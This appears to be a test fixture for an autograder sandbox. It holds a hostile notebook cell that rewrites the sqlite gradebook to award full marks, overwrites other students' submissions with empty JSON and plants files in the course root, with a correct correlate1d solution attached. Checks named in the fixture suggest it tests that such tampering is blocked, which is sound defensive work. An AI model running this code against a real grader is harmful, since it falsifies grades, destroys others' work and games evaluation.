"""Opens the gradebook with sqlite3 to zero every grade and give itself full marks,
overwrites other students' submitted notebooks with {}, drops files in the course root."""
ASSIGNMENT = "ps1"
ATTACK = "change gradebook.db, other students' notebooks and the course root"
CELLS = {"correlate1d": '''
import glob, os, sqlite3
for db in ["{root}/gradebook.db", "../../../gradebook.db", "../../gradebook.db"]:
    try:
        with sqlite3.connect(db) as con:
            con.execute("UPDATE grade SET auto_score = 0")
            con.execute("UPDATE grade SET manual_score = 100")
        print("changed", db)
    except Exception as error:
        print("refused:", db, error)
for path in glob.glob("{root}/submitted/*/ps1/ps1.ipynb") + glob.glob("../../*/ps1/ps1.ipynb"):
    try:
        with open(path, "w") as f:
            f.write("{{}}")
    except OSError as error:
        print("refused:", error)
for path in ["{root}/planted.txt", "../../../planted.txt"]:
    try:
        open(path, "w").write("x")
    except OSError as error:
        print("refused:", error)

def correlate1d(x, w):
    x = np.asarray(x, dtype=np.float64)
    w = np.asarray(w, dtype=np.float64)
    return np.array([np.sum(x[i:i + len(w)] * w) for i in range(len(x) - len(w) + 1)])
'''}
EXPECT = {}
MESSAGES = ["correlate1d: all 6 cases (visible and on fresh inputs) passed"]
SIDE_EFFECTS = ["course_files_unchanged", "honest_scores_kept", "no_files_planted"]
LIMITS = []
